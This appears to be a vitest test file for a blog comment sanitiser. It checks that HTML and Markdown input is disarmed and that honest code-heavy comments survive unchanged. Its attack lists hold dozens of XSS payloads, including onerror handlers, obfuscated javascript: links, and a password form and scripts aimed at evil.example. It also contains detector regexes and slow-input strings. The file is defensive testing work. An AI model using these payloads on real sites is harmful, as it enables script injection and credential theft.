import { createRequire } from 'node:module';
import { marked } from 'marked';
import { describe, expect, it } from 'vitest';
import { plainText, sanitiseComment, siteAddress, textFormatOf } from './sanitise';

/** What `sanitize-html` reads a text with. */
interface Handler {
  onopentag(name: string, attributes: Readonly<Record<string, string>>): void;
}
const { Parser } = createRequire(createRequire(import.meta.url).resolve('sanitize-html'))('htmlparser2') as { Parser: new (handler: Handler) => { end(html: string): void } };

/** Attacks, each in the text of a comment. None may leave a tag, attribute or address that runs something. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p><img src=x onerror=alert(1)></p>',
  `<img src="1'onerror='alert(1)'a='">`,
  `<p><img src="1'onerror='alert(1)'a='"></p>`,
  `<p><img src='1"onerror="alert(1)"a="'></p>`,
  '<img src="1&#39;onerror=&#39;alert(1)&#39;a=&#39;">',
  `<img alt="x'onerror='alert(1)" src="a.png">`,
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<p><a href="javascript:alert(1)">x</a></p>',
  '<p><a href="JaVaScRiPt:alert(1)">x</a></p>',
  '<p><a href=" &#14; javascript:alert(1)">x</a></p>',
  '<p><a href="java&#x09;script:alert(1)">x</a></p>',
  '<p><a href="java\nscript:alert(1)">x</a></p>',
  '<p><a href="&#106;&#97;&#118;&#97;script&colon;alert(1)">x</a></p>',
  '<p><a href="vbscript:msgbox(1)">x</a></p>',
  '<p><a href="data:text/html,<script>alert(1)</script>">x</a></p>',
  '<p><img src="data:image/svg+xml;base64,PHN2Zz4="></p>',
  '<p><a href="javascript%3Aalert(1)">x</a></p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details open ontoggle=alert(1)>x</details>',
  '<p onclick=alert(1) onmouseover="alert(1)" style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999">x</p>',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<p><a href="x" title="&quot; onmouseover=alert(1) x=&quot;">x</a></p>',
  '<img src=x onerror=alert(1)',
  '<p>a</p><img src=x onerror=alert(1) //',
  '<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext>',
  '[x](javascript:alert(1))',
  '[x]( javascript:alert(1) "title")',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<javascript:alert(1)>)',
  '[a [b] c](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  "![x](http://a.example/'onerror='alert(1))",
  '[x]: javascript:alert(1)\n\n[x]',
  '> [x]: javascript:alert(1)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '[x](vbscript:msgbox)',
  "![a\\]b](1'onerror='alert(1)'a=')",
  "![a\nb](1'onerror='alert(1)'a=')",
  "![a](1\\)'onerror='alert(1)'a=')",
  "![a](<1'onerror='alert(1)//>)",
  "![a\\]b](<1\\>2 'onerror='alert(1)//>)",
  "<p>x</p>\n\n![a](1'onerror='alert(1)'a=')",
  "<ul><li><pre><code>a\n\n![a](1'onerror='alert(1)'a=')\n</code></pre></li></ul>",
  "[a\\]b]: 1'onerror='alert(1)'a='\n\n![x][a\\]b]",
  "- [x]: 1'onerror='alert(1)'a='\n\n![y][x]",
  "> [x]:\n> 1'onerror='alert(1)'a='\n\n![y][x]",
  "](<p>![a\\]b](\n'onerror='alert(1)'a='",
  "](<p ![a](\n<1 'onerror='alert(1)//>)",
  '<p>x</p>\n\n[x](javascript:alert(1))',
  '<p><a class="at" title="[x](javascript:foo" href="#"> a" onmouseover=alert(1) </a></p>',
];

/** Markdown that begins in a value, whose closing quote its target would take away, or behind HTML or in lists; letters in numbers of any length. */
const MIXED = [
  'hi <ol start="[x](foo"> a" onmouseover=alert(1) <b>c</b>',
  'hi <ol start="\n[x]: [y]&quot;( "> a" onmouseover=alert(1) <b>c</b>',
  'hi <a class="at" title="[x](foo"> a" onmouseover=alert(1) <b>c</b>',
  'hi <a class="at" href="[x](foo"> a" onmouseover=alert(1) <b>c</b>',
  'hi <td align="\n> [x](foo"> a" onmouseover=alert(1) <b>c</b>',
  'hi <img alt="\n~~~ "> a" onmouseover=alert(1) <b>c</b>',
  'hi <code class="language-[x](y"> a" onmouseover=alert(1) <b>c</b>',
  `<p><img src="s" alt="x\n\ny"></p>\n<p>foo" src=1'onerror='alert(1)' y="<a title="z">k</a></p>`,
  'hi <a class="at" href="&#0000000106;avaevalscript:alert(1)">x</a>',
  'hi <a href="&#x0000006a;avascript:alert(1)">x</a> <a href="javascript&#00000000034;:alert(1)">y</a>',
  '<p><a href="javascript&amp;#000&amp;#00000000034;00000034;:alert(1)">y</a></p>',
  'hi <a href="javascript&#000&#00000000034;00000034;:alert(1)">y</a>',
  "- ~~~x'style='animation:spin 1s'onanimationstart='alert(1)'\n  foo",
  "1. [x] ~~~x'onmouseover='alert(1)'\n   foo",
  "<p>x</p>\n\n~~~x'onmouseover='alert(1)'\nfoo",
  '<p>x</p>\n\n[x]:\n![a\\]b]( javascript:alert(1)',
];

/** A running reading of what is left: every tag with its attributes. */
function dangersIn(text: string): string[] {
  const dangers: string[] = [];
  for (const [tag, name, attributes] of text.matchAll(/<\/?([a-z!?][^\s/>]*)([^>]*)>?/gi)) {
    if (!/^(a|b|blockquote|br|code|del|details|div|em|h[1-6]|i|img|li|ol|p|pre|span|strong|summary|table|td|tr|ul)$/.test(name!)) dangers.push(`tag ${tag}`);
    if (/[\s"'/]on\w+\s*=/i.test(attributes!)) dangers.push(`handler ${tag}`);
    if (/\sstyle\s*=/i.test(attributes!)) dangers.push(`style ${tag}`);
    if (attributes!.includes("'")) dangers.push(`quote ${tag}`);
  }
  if (/(?:href|src)\s*=\s*"(?!(https?:|mailto:|#|\/|(?:[\w.%=()-]|&#9[13];)*")|data:image\/png)/i.test(text)) dangers.push('address');
  if (/\]\(\s*<?\s*(?:java|vb)\s*script|\]\(\s*data:text|\]:\s*<?javascript/i.test(text)) dangers.push('target');
  return dangers;
}

/** As a parser of HTML reads it: every attribute that is not one of a comment's, and every address that runs something. */
function dangersOf(html: string): string[] {
  const dangers: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!/^(?:href|title|class|target|rel|src|alt|width|height|loading|align|start)$/.test(attribute)) dangers.push(`${name} ${attribute}`);
        if (/^(?:href|src)$/.test(attribute) && /^\s*(?:java|vb)script:|^\s*data:/i.test(value)) dangers.push(`${name} ${attribute}=${value}`);
      }
      if (name === 'script') dangers.push(name);
    },
  });
  parser.end(html);
  return dangers;
}

/** So many texts, each of some of these, the same ones every time. */
function* texts(parts: readonly string[], count: number): Generator<string> {
  let state = 7;
  const random = (below: number): number => (state = (state * 48271) % 2147483647) % below;
  for (let round = 0; round < count; round++) yield `${random(4) === 0 ? '' : 'hi '}${Array.from({ length: 3 + random(12) }, () => parts[random(parts.length)]).join('')}`;
}

describe('§5 sanitising of comments', () => {
  it('sees the danger in the attacks themselves', () => {
    const harmless = ATTACKS.filter((attack) => dangersIn(attack).length === 0);
    // These hide in entities, which the plain reading does not see.
    expect(harmless.every((attack) => attack.includes('&') || attack.includes('%3A') || attack.includes("'onerror") || attack.includes('vbscript') || attack.includes('(javascript') || attack.includes('data:text'))).toBe(true);
    expect(harmless.length).toBeLessThan(ATTACKS.length / 3);
  });

  it.each([...ATTACKS, ...MIXED])('disarms %s', (attack) => {
    const clean = sanitiseComment(attack);
    expect(dangersIn(clean)).toEqual([]);
    expect(clean).not.toMatch(/(?:href="|src="|\]\(|\]:\s*)\s*(?:java|vb|data:text)/i);
    expect(sanitiseComment(clean)).toBe(clean);
    expect(dangersIn(sanitiseComment(sanitiseComment(clean)))).toEqual([]);
    // Valine 1.5 makes an attribute of what follows this quote in the address of a picture.
    expect(marked.parse(clean, { async: false })).not.toMatch(/<img[^>]*'/);
    // And of the language of code.
    marked.walkTokens(marked.lexer(clean), (token) => expect(token.type === 'code' ? (token.lang ?? '') : '').not.toContain("'"));
  });

  it('disarms whatever is put together of what means something in HTML and in Markdown', () => {
    const PARTS = ['<ol start="', '<a class="at" title="', '<a href="', '<img alt="', '<td align=\'', '<b>', '</b>', '<p>', '"', "'", '>', '<', '[', ']', '](', '[x](', '[x]: ', ')', '\n', '\r', ' ', '~~~', '```', '`', '> ', '&quot;', '&lt;', '&gt;', '&#34;', '\\', '=', ' onmouseover=alert(1) ', 'javascript:alert(1)', 'https://a.example/', 'x', '#', '<!--', '-->', '<script>', '</a>'];
    for (const text of texts(PARTS, 6000)) {
      const once = sanitiseComment(text);
      const twice = sanitiseComment(once);
      expect([text, once, dangersOf(once), dangersOf(twice)]).toEqual([text, once, [], []]);
    }
  });

  it('changes nothing when it cleans once more what is put together of what people write', () => {
    const PARTS = ['<div>', '</div>', '<b>', '</b>', '<details>', '<summary>', '</details>', '<script>', '</script>', '<br>', '<img src="a.png">', '<a href="https://a.example/">', '</a>', '<T>', '用', 'x', ' ', '\n', '\n\n', '\n```\n', '\n```html\n', '\n~~~\n', '\n> ```\n', '\n- ', '\n> ', '\n1. ', '`', '``', '```', '[链接](https://a.example/)', '![图](a.png)', '**', 'a < b && c > d', '&amp;', '&', 'f("x")', "it's", '\n[x]: /a\n', ' = ', '| a |'];
    for (const text of texts(PARTS, 6000)) {
      const once = sanitiseComment(text);
      const twice = sanitiseComment(once);
      expect([text, twice, dangersOf(once)]).toEqual([text, once, []]);
    }
  });

  it.each([
    ['用 <div> 包起来：\n\n```html\nx\n```', '用 <div> 包起来：\n\n```html\nx\n```\n</div>'],
    ['用 <div> 包起来：\n\n```html\nx\n``` \n', '用 <div> 包起来：\n\n```html\nx\n``` \n</div>'],
    ['一 <b>二\n> ~~~\n> x\n> ~~~', '一 <b>二\n> ~~~\n> x\n> ~~~\n</b>'],
    ['一 <div>\n```html\n<p>没有写完', '一 <div>\n</div>\n\n```html\n&lt;p>没有写完'],
    ['一 <div>\n- ```\n  x', '一 <div>\n</div>\n\n- ```\n  x'],
    ['一 <b>二 ``` 三', '一 <b>二 ``` 三</b>'],
    ['一 <b>二 [x](', '一 <b>二 [x](</b>'],
  ])('ends a tag that is left open where no code takes it in: %s', (text, kept) => {
    expect(sanitiseComment(text)).toBe(kept);
    expect(sanitiseComment(kept)).toBe(kept);
    const codeIn = (markdown: string): unknown[] => {
      const code: unknown[] = [];
      marked.walkTokens(marked.lexer(markdown), (token) => void (token.type === 'code' && code.push([token.text, token.lang])));
      return code;
    };
    expect(codeIn(kept)).toEqual(codeIn(text.replace('<p>', '&lt;p>')));
  });

  it.each([
    '<p>你好，<strong>世界</strong> &amp; <em>大家</em> <code class="language-js">a &lt; b</code></p>\n<pre><code class="language-cpp">std::vector&lt;int&gt; v;</code></pre>',
    '<p><a class="at" href="#5cc6b3aa0000000000000001">@小明</a> , 同意 <img src="https://img.example/x.png" alt="图" loading="lazy" /></p>',
    '<ul>\n<li>一</li>\n</ul><blockquote><p>引</p></blockquote>',
    '**加粗** 和 `code` 与 [链接](https://a.example/?a=1&b=2) ![图](https://a.example/x.png "标题")',
    '> 引用\n> > 两层\n\n- [ ] 待办\n\n1 < 2 && 3 > 2',
    '```cpp\nif (a < b && b > c) return a->b;\n```',
    '![贴图](data:image/png;base64,iVBORw0KGgo=)',
    '写信到 [a@b.example](mailto:a@b.example)',
    '$a_1 < b$ 与 A&B，AT&amp;T，<https 不是标签',
  ])('leaves honest text as it is: %s', (text) => {
    expect(sanitiseComment(text)).toBe(text.replace('<https 不是标签', '&lt;https 不是标签'));
  });

  it.each([
    ['用 `<script src=x>` 标签引入就行', '用 `&lt;script src=x>` 标签引入就行'],
    ['``a ` <style>`` 和 `<svg>`，<b>粗</b>', '``a ` &lt;style&gt;`` 和 `&lt;svg&gt;`，<b>粗</b>'],
    ['~~~html\n<div>\n<textarea>\n~~~\n后面', '~~~html\n&lt;div>\n&lt;textarea>\n~~~\n后面'],
    ['```html\n<!-- 没有写完 -->\n</body>', '```html\n&lt;!-- 没有写完 -->\n&lt;/body>'],
    ['一行的 ```<script>a``` 也是，<b>粗</b>', '一行的 ```&lt;script&gt;a``` 也是，<b>粗</b>'],
    ['一个 ` 不是代码 <b>粗</b>', '一个 ` 不是代码 <b>粗</b>'],
  ])('keeps tags in code, which a technical comment is about: %s', (text, kept) => {
    expect(sanitiseComment(text)).toBe(kept);
    expect(sanitiseComment(kept)).toBe(kept);
  });

  it.each([
    "```js\nhandlers[name]('click');\nelement[`on${name}`](\"x\");\n```",
    '```ts\ninterface A {\n  [key: string]: Array&lt;string>;\n}\n```\n好！',
    "```js\nswitch (x) {\n  cases[0]: 'a'\n}\n```\nThanks!",
    "Thanks!\n\n`items[0]('x')` 与 `a[b]: 'c'`",
    "[链接](https://a.example/it's?q='x')",
  ])('leaves code that looks like a link as it is, where there is no picture: %s', (text) => {
    expect(sanitiseComment(text)).toBe(text);
  });

  it.each(['![a](b) ', '!<font>[a](b) ', '!:smile:[a](b) ', '!&#91;a](b) ', '&excl;[a](b) ', '&#x21;[a](b) '])('cleans all targets where there may be a picture: %s', (picture) => {
    for (const text of [`${picture}\n[x]: c'd`, `[x](c'd)\n${picture}`]) expect(sanitiseComment(text)).not.toContain("'");
  });

  it('keeps template arguments and comparisons as text', () => {
    expect(sanitiseComment('std::vector<int> 很快')).toBe('std::vector&lt;int> 很快');
    expect(sanitiseComment('<p>std::map<Key, Value> m</p>')).toBe('<p>std::map&lt;Key, Value&gt; m</p>');
  });

  it('names the language of code without what could end an attribute', () => {
    expect(sanitiseComment('```html" onmouseover="x\n<b>\n```')).toMatch(/^```html onmouseoverx\n/);
    expect(sanitiseComment('~~~c++ a=\'b\'\nx\n~~~\n``` `a"b` ```')).toBe('~~~c++ ab\nx\n~~~\n``` `a"b` ```');
    expect(sanitiseComment('~~~<img/src=x/onerror=hit(0)>js\nx')).toBe('~~~js\nx');
  });

  const entities = (prefix: string, base: number): string => [...'javascript:'].map((letter) => `${prefix}${letter.codePointAt(0)!.toString(base)};`).join('');
  it.each([entities('&#x', 16), entities('&#X', 16).toUpperCase(), entities('&#', 10), entities('&amp;#x', 16), 'javascript&colon;', 'javascript%3A', 'java&Tab;script&#58'])('finds the scheme of %s', (disguise) => {
    expect(sanitiseComment(`[x](${disguise}alert(1))`)).toBe('[x](#))');
    expect(sanitiseComment(`[x]: ${disguise}alert(1)`)).toBe('[x]: #');
  });

  it('takes numbers of no character, and pictures of no address, for what they are', () => {
    expect(sanitiseComment('[x](a&#1114112;&#x110000;&#0;b)')).toBe('[x](a&#1114112;&#x110000;&#0;b)');
    expect(sanitiseComment('<p><img alt="图"></p>')).toBe('<p><img alt="图" loading="lazy" /></p>');
  });

  it('removes eval from addresses (§5), not from words', () => {
    expect(sanitiseComment('[x](https://a.example/?x=eval(atob(1)))')).toContain('[x](#');
    expect(sanitiseComment('<p><a href="https://a.example/?q=ev&#97;l%28x%29">x</a></p>')).toContain('href="#"');
    expect(sanitiseComment('[x](https://a.example/medieval/eval-loop)')).toBe('[x](https://a.example/medieval/eval-loop)');
  });

  it('keeps entities as they were typed, with tags beside them too', () => {
    expect(sanitiseComment('AT&amp;T <b>x</b> a & b &lt;i&gt;')).toBe('AT&amp;T <b>x</b> a &amp; b &lt;i&gt;');
    expect(sanitiseComment('见 <https://a.example/x?y=1>。')).toBe('见 https://a.example/x?y=1。');
  });

  it('opens links elsewhere, and the @-link of a reply in place', () => {
    expect(sanitiseComment('<p><a href="http://a.example">x</a></p>')).toBe('<p><a href="http://a.example" target="_blank" rel="noopener nofollow ugc">x</a></p>');
  });

  it('ends in time on text made to be slow', () => {
    for (const text of ['<'.repeat(20_000), '<p>'.repeat(6000), '['.repeat(20_000), '[a]('.repeat(5000), '>'.repeat(20_000), '<a href="'.repeat(2000), '&#'.repeat(10_000), '<b '.repeat(6000), '`<a '.repeat(10_000), '```\n<a '.repeat(5000), '`'.repeat(20_000), `<p><a href="${'&#'.repeat(29_900)}">x</a></p>`, `[x](${'&#'.repeat(10_000)})`]) sanitiseComment(text);
  });

  it('tells the two formats apart by their start', () => {
    expect(textFormatOf('<p>x</p>')).toBe('html');
    expect(textFormatOf('  <pre><code>')).toBe('html');
    expect(textFormatOf('<b>bold</b> text')).toBe('markdown');
    expect(textFormatOf('a <p>')).toBe('markdown');
  });
});

describe('short texts and addresses', () => {
  it('has no markup in names', () => {
    expect(plainText('<img src=x onerror=alert(1)>', 100)).toBe('＜img src=x onerror=alert(1)＞');
    expect(plainText('  小\u202e作\n坊 "A&B" ', 100)).toBe('小 作 坊 ＂A＆B＂');
    for (const unseen of ['\u3164', '\u115f\u1160', '\u2800', '\uffa0', '\u200b\u00ad']) expect([plainText(unseen, 100), plainText(`站长${unseen}`, 100)]).toEqual(['', '站长']);
    expect(plainText('👍👍👍', 2)).toBe('👍👍');
    for (const whole of ['👩\u200d💻小林', '🏳️\u200d🌈', '👩🏽\u200d🔬', '❤️\u200d🔥', 'می\u200cخواهم']) expect([plainText(whole, 100), plainText(whole, 20)]).toEqual([whole, whole]);
    for (const unseen of ['\u200d', '\u200c', '\u200d\u200d']) expect([plainText(`站${unseen}长`, 100), plainText(`👍${unseen}`, 100), plainText(`${unseen}👍`, 100), plainText(`م${unseen} خ`, 100)]).toEqual(['站 长', '👍', '👍', 'م خ']);
    expect(plainText(plainText(`a'b"c`, 50), 50)).toBe(plainText(`a'b"c`, 50));
  });
  it('takes http and https addresses of sites only', () => {
    expect(siteAddress('https://a.example/x?y=1')).toBe('https://a.example/x?y=1');
    expect(siteAddress('a.example/博客')).toBe('http://a.example/%E5%8D%9A%E5%AE%A2');
    expect(siteAddress('a.example:8080')).toBe('http://a.example:8080/');
    for (const link of ['javascript:alert(1)', 'java\tscript:alert(1)', 'data:text/html,x', 'https://user:pw@a.example', 'x', '', 'http://', '"><img src=x>']) expect(siteAddress(link)).toBe('');
    expect(siteAddress(`http://a.example/'onclick='x`)).toBe('http://a.example/%27onclick=%27x');
  });
});
